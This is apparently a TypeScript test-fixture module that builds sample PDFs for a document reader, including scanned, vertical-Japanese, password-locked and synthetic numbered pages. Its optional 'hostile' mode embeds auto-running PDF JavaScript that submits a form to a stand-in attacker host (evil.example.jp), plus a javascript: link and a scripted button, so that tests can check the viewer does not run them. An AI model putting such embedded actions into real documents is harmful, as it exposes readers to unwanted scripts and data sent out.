import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { launchChromium } from '../browser.ts';

const fromRoot = (path: string): Buffer => readFileSync(fileURLToPath(new URL(`../../${path}`, import.meta.url)));

/** One of the five real documents of `packages/reading`. */
export const realPdf = (name: string): Buffer => fromRoot(`packages/reading/fixtures/${name}.pdf`);

/** A picture of a page, without a letter. */
export const scan = (): Buffer => fromRoot('packages/pdf/fixtures/scan.pdf');

/** A page in vertical writing, as Chromium prints it. */
export async function vertical(text: string): Promise<Buffer> {
  const browser = await launchChromium();
  try {
    const page = await browser.newPage();
    await page.setContent(
      `<html lang="ja" style="writing-mode: vertical-rl"><meta charset="utf-8"><p>${text}</p></html>`,
    );
    return await page.pdf({ format: 'A4' });
  } finally {
    await browser.close();
  }
}

/** Opens with the password `himitsu`; `qpdf --encrypt himitsu shujin 256` made it of `packages/pdf/fixtures/plain.pdf`. */
export const locked = (): Buffer => fromRoot('test/extension/fixtures/locked.pdf');

/** Writes numbered objects with the table that tells where they are (ISO 32000-1, 7.5). */
function write(objects: readonly string[]): Buffer {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const table = text.length;
  const size = objects.length + 1;
  text += `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}`;
  text += `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/**
 * Pages that say "Page 1", "Page 2" …; with contents of two entries, and with scripts and links that must not do
 * anything by themselves if asked.
 */
export function numbered(count: number, hostile = false): Buffer {
  const [pages, font, outline, first, second] = [2, 3, 4, 5, 6];
  const before = 6;
  const page = (index: number) => before + 1 + 2 * index;
  const script = "/S /JavaScript /JS (app.alert('hello'); this.submitForm('http://www.evil.example.jp/');)";
  const bad = hostile ? `/OpenAction << ${script} >> /AA << /WC << ${script} >> >>` : '';
  const link = hostile
    ? `/Annots [<< /Type /Annot /Subtype /Link /Rect [300 0 500 200] /A << /S /URI /URI (http://www.city.example.lg.jp/next) >> >>
       << /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (javascript:alert(1)) >> >>
       << /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 200 200 400] /A << ${script} >> >>]`
    : '';
  const entry = (title: string, index: number, rest: string) =>
    `<< /Title (${title}) /Parent ${outline} 0 R /Dest [${page(index)} 0 R /Fit] ${rest} >>`;
  const contents = Array.from({ length: count }, (_, index) => {
    const stream = `BT /F 24 Tf 72 760 Td (Page ${index + 1}) Tj ET`;
    return [
      `<< /Type /Page /Parent ${pages} 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F ${font} 0 R >> >> /Contents ${page(index) + 1} 0 R ${link} >>`,
      `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    ];
  });
  const kids = contents.map((_, index) => `${page(index)} 0 R`).join(' ');
  return write([
    `<< /Type /Catalog /Pages ${pages} 0 R /Outlines ${outline} 0 R ${bad} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Outlines /First ${first} 0 R /Last ${second} 0 R /Count 2 >>`,
    entry('Beginning', 0, `/Next ${second} 0 R`),
    entry('End', count - 1, `/Prev ${first} 0 R`),
    ...contents.flat(),
  ]);
}
